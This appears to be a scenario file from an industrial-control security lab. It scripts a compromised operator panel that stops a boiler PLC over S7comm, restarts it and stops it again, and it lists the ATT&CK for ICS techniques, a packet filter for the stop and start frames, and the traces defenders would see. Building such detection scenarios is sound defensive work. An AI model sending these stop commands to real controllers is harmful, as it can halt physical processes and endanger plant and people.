"""The operator panel, in an attacker's hands, stops the boiler controller twice.

ATT&CK for ICS: T0858 change operating mode, T0888 remote system information discovery, T0816 device restart/shutdown.
Attack frames: every frame of the S7 session that the panel opens beside its own. It asks for the controller's identity
(SZL 0x001c, 0x0011) and mode (0x0424), sends PLC stop (function 0x29), looks, lets it start (PI service, function 0x28)
and stops it again. The frames with the functions 0x28 and 0x29 from the panel are the commands.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from lab.clients.sessions import s7comm
from lab.devices import szl
from lab.devices.s7comm import PROCESS_BLOCK
from lab.plant import address
from lab.scenario import Scenario

if TYPE_CHECKING:
    from lab.clock import Clock


def attack(clock: Clock) -> None:
    """Look, stop, start, stop."""
    with s7comm("plc-boiler") as client:
        for status_list in (szl.COMPONENT, szl.MODULE, szl.MODE):
            client.read_szl(status_list, 0)
        clock.sleep(4.0)
        client.plc_stop()
        for _ in range(4):
            clock.sleep(3.0)
            client.read_szl(szl.MODE, 0)
            client.db_read(PROCESS_BLOCK, 0, 60)
        client.plc_hot_start()
        clock.sleep(8.0)
        client.plc_stop()
        clock.sleep(2.0)


SCENARIO = Scenario(
    name="plc-stop",
    title="The operator panel stops the boiler controller",
    length=150.0,
    techniques=("T0858", "T0888", "T0816"),
    attacker="hmi",
    victims=("plc-boiler",),
    begin=80.0,
    behind=1620,
    commands=f"ip.src == {address('hmi')} && s7comm.param.func in {{0x28, 0x29}} && s7comm.header.rosctr == 1",
    attack=attack,
    seen="""\
- `10.21.10.32` (panel) opens a second S7 session to `10.21.10.12` and asks for identity and state, which it never does.
- Two PLC stop jobs (function 0x29) with a warm restart (PI service `P_PROGRAM`, function 0x28) between them.
- The status word at byte 56 of DB 11 turns 0x0000, outlet temperatures and pressure fall in everybody's polls.
- The controller still answers: the polls go on.""",
)
